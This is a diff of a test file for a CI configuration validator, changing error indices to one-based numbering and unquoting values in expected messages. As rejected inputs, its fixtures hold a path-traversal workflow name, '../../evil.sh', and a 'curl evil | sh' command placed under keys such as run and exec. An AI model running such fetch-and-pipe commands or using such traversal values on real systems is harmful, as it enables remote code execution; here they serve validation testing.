@@ -79,22 +79,22 @@ ignore: { jobs: build }
 expected: []
 `)
     expect(faults).toEqual([
-      `${name}: expected-changes: 0: since | "soon" | a commit of 7 or more characters, or a date YYYY-MM-DD`,
-      `${name}: expected-changes: 0: reason |  | a line of text`,
-      `${name}: expected-changes: 0: resaon | resaon | no such key; known here are id, since, series, reason, until, workflow, branch`,
-      expect.stringMatching(/remedies: 0: category \| "weather" \| one of dependency, test/),
-      `${name}: remedies: 0: link | "http://plain.example.org" | an https URL`,
-      expect.stringMatching(/remedies: 1 \| .* \| either a category or a rule/),
-      expect.stringMatching(/remedies: 2 \| .* \| at least one of advice, link, workflow/),
-      expect.stringMatching(/remedies: 3: workflow \| "..\/..\/evil.sh" \| the file name of a workflow/),
-      `${name}: ignore: jobs | "build" | a list`,
+      `${name}: expected-changes: 1: since | soon | a commit of 7 or more characters, or a date YYYY-MM-DD`,
+      `${name}: expected-changes: 1: reason |  | a line of text`,
+      `${name}: expected-changes: 1: resaon | resaon | no such key; known here are id, since, series, reason, until, workflow, branch`,
+      expect.stringMatching(/remedies: 1: category \| weather \| one of dependency, test/),
+      `${name}: remedies: 1: link | http://plain.example.org | an https URL`,
+      expect.stringMatching(/remedies: 2 \| .* \| either a category or a rule/),
+      expect.stringMatching(/remedies: 3 \| .* \| at least one of advice, link, workflow/),
+      expect.stringMatching(/remedies: 4: workflow \| ..\/..\/evil.sh \| the file name of a workflow/),
+      `${name}: ignore: jobs | build | a list`,
       expect.stringMatching(/: expected \| expected \| no such key; known here are expected-changes/),
     ])
   })
 
   test.each(['command', 'run', 'exec', 'script', 'shell'])('can never name a command: %s', async (key) => {
     expect(await faultsOf(`remedies:\n  - category: test\n    advice: x\n    ${key}: curl evil | sh\n`)).toEqual([
-      `${name}: remedies: 0: ${key} | ${key} | no such key; this file can never name a command to execute`,
+      `${name}: remedies: 1: ${key} | ${key} | no such key; this file can never name a command to execute`,
     ])
   })
 
